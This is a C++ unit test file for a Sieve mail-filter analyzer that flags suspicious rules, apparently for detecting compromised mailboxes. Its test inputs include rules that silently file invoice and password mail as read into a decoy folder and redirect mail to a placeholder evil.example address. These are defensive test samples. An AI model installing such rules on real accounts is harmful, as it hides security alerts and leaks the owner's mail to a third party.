// SPDX-License-Identifier: Apache-2.0
// What a filter script does (engine/intake/sieve.hpp).
#include "engine/intake/sieve.hpp"

#include <algorithm>

#include "tests/support/catch.hpp"

using namespace kith;

namespace {

const Hasher kHasher{Hasher::Secret{1, 2, 3}};

RuleSummary read(const std::string& script) { return summarize_sieve(script, &kHasher); }

bool has_word(const RuleSummary& r, std::string_view word) {
    return std::find(r.words.begin(), r.words.end(), kHasher.hash32("word", word)) != r.words.end();
}
bool has_topic(const RuleSummary& r, RuleTopic topic) {
    return (r.topics & static_cast<std::uint8_t>(topic)) != 0;
}

}  // namespace

TEST_CASE("a rule that hides what warns: folder, seen, stop, condition and its words") {
    const RuleSummary r = read(R"(require ["fileinto", "imap4flags"];
# rule:[x]
if anyof (header :contains "subject" ["Invoice 4711", "Passwort"],
          address :is :domain "from" "bank.example")
{
    addflag "\\Seen";
    fileinto "RSS Feeds";
    stop;
}
)");
    CHECK(r.understood);
    CHECK(r.folders == std::vector<std::string>{"RSS Feeds"});
    CHECK(r.marks_seen);
    CHECK(r.stops);
    CHECK(r.conditional);
    CHECK_FALSE(r.discards);
    CHECK(r.redirects.empty());
    CHECK(has_word(r, "invoice"));
    CHECK(has_word(r, "passwort"));
    CHECK_FALSE(has_word(r, "subject"));  // where it looks, not what for
    CHECK(has_topic(r, RuleTopic::Payment));
    CHECK(has_topic(r, RuleTopic::Security));
    CHECK(has_topic(r, RuleTopic::Person));
    CHECK_FALSE(has_topic(r, RuleTopic::Delivery));
}

TEST_CASE("redirects: with and without a copy that stays") {
    RuleSummary r = read("redirect \"Out@Evil.Example\";");
    CHECK(r.redirects == std::vector<std::string>{"out@evil.example"});
    CHECK_FALSE(r.keeps_copy);
    CHECK_FALSE(r.conditional);
    CHECK(read("require \"copy\"; redirect :copy \"a@b.example\";").keeps_copy);
    CHECK(read("redirect \"a@b.example\"; keep;").keeps_copy);
    CHECK_FALSE(read("redirect \"a@b.example\"; if true { keep; }").keeps_copy);
    r = read("require [\"enotify\"]; notify :message \"x\" \"mailto:Out@evil.example\";");
    CHECK(r.redirects == std::vector<std::string>{"out@evil.example"});
}

TEST_CASE("an address in a variable is no hiding place") {
    const RuleSummary r = read(R"(require "variables";
set "d" "evil.example"; set :lower "who" "Out@${d}";
redirect "${WHO}"; fileinto "${unknown}";)");
    CHECK(r.redirects == std::vector<std::string>{"out@evil.example"});
    CHECK(r.folders == std::vector<std::string>{"${unknown}"});
}

TEST_CASE("flags in every form they come in") {
    CHECK(read("keep :flags \"\\\\Seen\";").marks_seen);
    CHECK(read("fileinto :flags [\"$x\", \"\\\\Deleted\"] \"A\";").marks_seen);
    CHECK(read("setflag \"v\" \"\\\\flagged \\\\seen\";").marks_seen);
    CHECK_FALSE(read("addflag \"\\\\Flagged\";").marks_seen);
    const RuleSummary r = read("fileinto :flags \"\\\\Seen\" \"A\";");
    CHECK(r.folders == std::vector<std::string>{"A"});
}

TEST_CASE("what is done in any case depends on nothing") {
    CHECK_FALSE(read("if true { discard; }").conditional);
    CHECK_FALSE(read("if anyof (true) { discard; }").conditional);
    CHECK(read("if not true { discard; }").conditional);
    CHECK(read("if size :over 1M { discard; } else { keep; }").conditional);
    CHECK(read("if header \"a\" \"b\" { stop; } discard;").discards);
}

TEST_CASE("comments, texts over lines and quotes are read as what they are") {
    const RuleSummary r = read(
        "/* redirect \"no@x.example\"; */ # discard;\r\n"
        "require \"vacation\"; vacation text:\r\nredirect \"no@x.example\";\r\n..\r\n.\r\n;\r\n"
        "if header :contains \"s\" \"a \\\"virus\\\" b\" { fileinto \"T\\\\est\"; }");
    CHECK(r.understood);
    CHECK(r.redirects.empty());
    CHECK_FALSE(r.discards);
    CHECK(r.folders == std::vector<std::string>{"T\\est"});
    CHECK(has_word(r, "virus"));
}

TEST_CASE("topics are known in eight languages, at the beginning of a word") {
    for (const char* word : {"invoices", "Rechnung", "facture", "factura", "fattura", "factuur",
                             "faktura", "fatura", "Überweisung"})
        CHECK((rule_topics(word) & static_cast<int>(RuleTopic::Payment)) != 0);
    for (const char* word : {"hacked", "Kennwort", "mot de passe", "contraseña", "sicurezza",
                             "wachtwoord", "hasło", "segurança"})
        CHECK((rule_topics(word) & static_cast<int>(RuleTopic::Security)) != 0);
    for (const char* word :
         {"Undeliverable", "MAILER-DAEMON@x", "Unzustellbar", "mancata consegna"})
        CHECK((rule_topics(word) & static_cast<int>(RuleTopic::Delivery)) != 0);
    CHECK(rule_topics("newsletter riverbank") == 0);
}

TEST_CASE("what is no Sieve is not understood, and tells nothing") {
    for (const char* bad : {"redirect \"a@b.example\"", "if true { discard;", "discard; }",
                            "\"x\";", "redirect [\"a@b.example\";", "/* no end", "text:\nno end",
                            "if (,) {}", "discard \x01;", "redirect \"no end"}) {
        INFO(bad);
        CHECK(summarize_sieve(bad, &kHasher) == RuleSummary{});
    }
    CHECK(read("").understood);
}

TEST_CASE("bounds: size, depth, commands, lists, texts") {
    const auto nested = [](int depth) {
        std::string s;
        for (int i = 0; i < depth; ++i) s += "if true {";
        s += "discard;";
        for (int i = 0; i < depth; ++i) s += "}";
        return s;
    };
    CHECK(read(nested(kMaxSieveDepth)).understood);
    CHECK_FALSE(read(nested(kMaxSieveDepth + 1)).understood);
    CHECK_FALSE(read("if " + std::string(100'000, '(') + "true").understood);
    std::string nots = "if ";
    for (int i = 0; i < 10'000; ++i) nots += "not ";
    CHECK_FALSE(read(nots + "true { discard; }").understood);

    std::string many;
    for (std::size_t i = 0; i < kMaxSieveCommands; ++i) many += "keep;";
    CHECK(read(many).understood);
    CHECK_FALSE(read(many + "keep;").understood);

    std::string fits = "keep;" + std::string(kMaxSieveBytes - 5, ' ');
    CHECK(read(fits).understood);
    CHECK_FALSE(read(fits + " ").understood);

    std::string redirects;
    for (std::size_t i = 0; i <= kMaxAccountList; ++i)
        redirects += "redirect \"a" + std::to_string(i) + "@b.example\";";
    CHECK(read(redirects).redirects.size() == kMaxAccountList);
    CHECK(read("fileinto \"" + std::string(1000, 'x') + "\";").folders.at(0).size() ==
          kMaxAccountText);
}
